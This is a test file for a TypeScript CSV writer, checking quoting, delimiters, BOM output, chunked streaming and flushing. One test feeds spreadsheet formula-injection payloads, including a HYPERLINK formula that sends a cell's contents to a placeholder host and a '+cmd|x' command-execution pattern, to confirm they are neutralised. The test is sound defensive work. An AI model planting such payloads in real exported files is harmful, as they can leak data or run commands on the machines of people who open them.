import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { type CsvCell, CsvWriter, csvChunks, csvFormatter, writeCsvFile } from './csv.js';

const dir = mkdtempSync(join(tmpdir(), 'ketendata-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('CSV writer', () => {
  it('quotes only fields with the delimiter, a quote or a line break, and doubles quotes', () => {
    const line = csvFormatter(';');
    expect(line(['a', 'b;c', 'say "hi"', 'x\ny', 'r\rs', '', null, undefined, 7])).toBe(
      'a;"b;c";"say ""hi""";"x\ny";"r\rs";;;;7\r\n',
    );
    expect(csvFormatter(',')(['a;b', 'a,b'])).toBe('a;b,"a,b"\r\n');
  });

  it('keeps a spreadsheet from running a text as a formula, and leaves numbers and phone numbers alone', () => {
    const line = csvFormatter(';');
    expect(line(['=HYPERLINK("http://x/?"&A1;"klik")', '@SUM(A1)', '+cmd|x', '-2+3+cmd'])).toBe(
      `"'=HYPERLINK(""http://x/?""&A1;""klik"")";'@SUM(A1);'+cmd|x;'-2+3+cmd\r\n`,
    );
    expect(line(['+31 6 12345678', '-5', '-12,50', 'Jansen', 'a=b', 7, -3])).toBe(
      '+31 6 12345678;-5;-12,50;Jansen;a=b;7;-3\r\n',
    );
  });

  it('writes rows as the same bytes as the line formatter, whichever path a row takes', async () => {
    const cells = [
      'a',
      'Jansen',
      '',
      null,
      undefined,
      7,
      'b;c',
      'x,y',
      'tab\there',
      'say "hi"',
      'r\rs',
      'x\ny',
    ];
    cells.push(
      '=1+1',
      '@SUM(A1)',
      '+31 6 12345678',
      '+cmd|x',
      '-5',
      '-2+3+cmd',
      '\tlead',
      'é ü',
      '😀',
      '~}{|',
    );
    // Every cell beside every other, and rows long enough to cross the 64 KiB chunk boundary many times.
    const rows: CsvCell[][] = cells.flatMap((x) => cells.map((y) => ['1', x, y, 'z'.repeat(40)]));
    for (let i = 0; i < 3000; i++) rows.push([String(i), 'x'.repeat(i % 97), i % 5 === 0 ? 'a;b' : 'ok']);
    for (const delimiter of [';', ',', '\t', '§']) {
      const chunks: Buffer[] = [];
      const sink = new Writable({
        write(chunk: Buffer, _encoding, done) {
          chunks.push(chunk);
          done();
        },
      });
      const writer = new CsvWriter(sink, ['Id', 'A', 'B', 'C'], { delimiter, bom: false });
      for (const row of rows) writer.push(row);
      await writer.end();
      const line = csvFormatter(delimiter);
      const expected = [line(['Id', 'A', 'B', 'C']), ...rows.map((r) => line(r))].join('');
      expect(Buffer.concat(chunks).toString('utf8')).toBe(expected);
    }
  });

  it('refuses a delimiter that cannot work', () => {
    expect(() => csvFormatter('"')).toThrow(/delimiter/);
    expect(() => csvFormatter(';;')).toThrow(/delimiter/);
  });

  it('writes a BOM, a header and rows that a CSV parser reads back unchanged', async () => {
    const rows = [
      ['1', 'Jan;Piet', null],
      ['2', 'met "quotes"', 'regel1\r\nregel2'],
      ['3', 'é ü ß 😀', ''],
    ];
    const file = join(dir, 't.csv');
    expect(await writeCsvFile(file, ['Id', 'Naam', 'Tekst'], rows)).toBe(3);
    const bytes = readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const back = parse(bytes.subarray(3).toString('utf8'), { delimiter: ';' }) as string[][];
    expect(back).toEqual([['Id', 'Naam', 'Tekst'], ...rows.map((r) => r.map((c) => c ?? ''))]);
  });

  it('leaves the BOM out and uses another delimiter on request', async () => {
    let text = '';
    for await (const chunk of csvChunks(['a', 'b'], [['1', 'x,y']], { delimiter: ',', bom: false }))
      text += chunk;
    expect(text).toBe('a,b\r\n1,"x,y"\r\n');
  });

  it('streams many rows in chunks and waits for a slow consumer', async () => {
    let chunks = 0;
    let bytes = 0;
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _enc, cb) {
        chunks++;
        bytes += chunk.length;
        setImmediate(cb);
      },
    });
    const writer = new CsvWriter(slow, ['n', 'tekst'], { bom: false });
    for (let i = 0; i < 50_000; i++) await writer.write([String(i), 'abcdefghij']);
    await writer.end();
    expect(writer.rows).toBe(50_000);
    expect(chunks).toBeGreaterThan(5);
    expect(chunks).toBeLessThan(500);
    const expected =
      'n;tekst\r\n'.length + [...Array(50_000).keys()].reduce((s, i) => s + String(i).length + 13, 0);
    expect(bytes).toBe(expected);
  });

  it('does not end the stream on flush, so more can follow', async () => {
    const out = new PassThrough();
    const writer = new CsvWriter(out, ['a'], { bom: false });
    writer.push(['1']);
    await writer.flush();
    expect(out.writableEnded).toBe(false);
    expect(out.read()?.toString()).toBe('a\r\n1\r\n');
  });
});
